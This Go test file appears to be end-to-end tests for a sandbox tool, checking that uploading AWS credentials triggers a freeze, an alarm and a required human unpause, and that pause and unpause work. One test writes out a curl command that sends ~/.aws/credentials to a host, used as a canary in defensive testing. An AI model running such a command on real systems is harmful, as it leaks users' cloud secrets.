//go:build linux

package e2e

import (
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/bailey-sandbox/bailey/test/machine"
)

// TestACanaryFreezesTheSandbox: what lies in ~/.aws/credentials is sent away, never arrives, and everything stops until
// a human has looked. The request before it, without the canary, is the control.
func TestACanaryFreezesTheSandbox(t *testing.T) {
	u := newUser(t)
	var arrived atomic.Int64
	port, roots := serveTLS(t, func(w http.ResponseWriter, r *http.Request) {
		if data, err := io.ReadAll(r.Body); err == nil && len(data) > 0 {
			arrived.Add(1)
		}
	})
	u.env = append(u.env, "SSL_CERT_FILE="+roots)
	url := "https://host.bailey.internal:" + port + "/"
	u.must("run", "-d", "--name", "box", "--allow", "host.bailey.internal:"+port, "shell", ".", "--", "-c", "while sleep 0.05; do date +%N > tick; done")
	send := func(what string) string {
		return u.must("exec", "box", "sh", "-c", "curl -s -o /dev/null -w '%{http_code}' --data-binary "+what+" "+url+"; true")
	}
	if code := send("hello"); code != "200" || arrived.Load() != 1 {
		t.Fatalf("an ordinary upload: %s, %d arrived", code, arrived.Load())
	}
	// Detached: who sends it is stopped like everybody.
	u.must("exec", "-d", "box", "sh", "-c", "curl -s --data-binary @$HOME/.aws/credentials "+url)
	listed := func() string { return u.must("ls") }
	if !machine.Poll(10*time.Second, func() bool { return strings.Contains(listed(), "running, frozen") }) {
		t.Errorf("ls says %s", listed())
	}
	tick := func() string {
		data, _ := os.ReadFile(filepath.Join(u.project, "tick"))
		return string(data)
	}
	stopped := func() bool {
		before := tick()
		time.Sleep(300 * time.Millisecond)
		return tick() == before
	}
	if !machine.Poll(10*time.Second, stopped) {
		t.Error("what runs inside goes on")
	}
	if arrived.Load() != 1 {
		t.Error("the canary has arrived")
	}
	if log := u.must("policy", "log", "--json", "box"); !strings.Contains(log, `"alarm"`) || !strings.Contains(log, "aws-") {
		t.Errorf("the record has no alarm: %s", log)
	}
	if out := send("hello"); out == "200" || arrived.Load() != 1 {
		t.Errorf("frozen, an ordinary upload: %s, %d arrived", out, arrived.Load())
	}
	u.must("stop", "box")
	if out := u.bailey("start", "box"); out.code == 0 || !strings.Contains(out.stderr, "frozen") || !strings.Contains(out.stderr, "bailey unpause box") {
		t.Errorf("a frozen sandbox starts: %+v", out)
	}
	u.must("unpause", "box")
	u.must("start", "box")
	if code := send("hello"); code != "200" || arrived.Load() != 2 {
		t.Errorf("after a human has looked: %s, %d arrived", code, arrived.Load())
	}
	u.must("rm", "-f", "box")
}

// TestPauseAndUnpause: what runs stops, and goes on.
func TestPauseAndUnpause(t *testing.T) {
	u := newUser(t)
	u.must("run", "-d", "--name", "box", "shell", ".", "--", "-c", "while sleep 0.05; do date +%N > tick; done")
	moves := func() bool {
		before, _ := os.ReadFile(filepath.Join(u.project, "tick"))
		time.Sleep(300 * time.Millisecond)
		after, _ := os.ReadFile(filepath.Join(u.project, "tick"))
		return string(before) != string(after)
	}
	if !machine.Poll(10*time.Second, moves) {
		t.Fatal("nothing runs")
	}
	u.must("pause", "box")
	if !machine.Poll(10*time.Second, func() bool { return !moves() }) {
		t.Error("it goes on while it is paused")
	}
	u.must("unpause", "box")
	if !machine.Poll(10*time.Second, moves) {
		t.Error("it does not go on")
	}
	u.must("rm", "-f", "box")
}
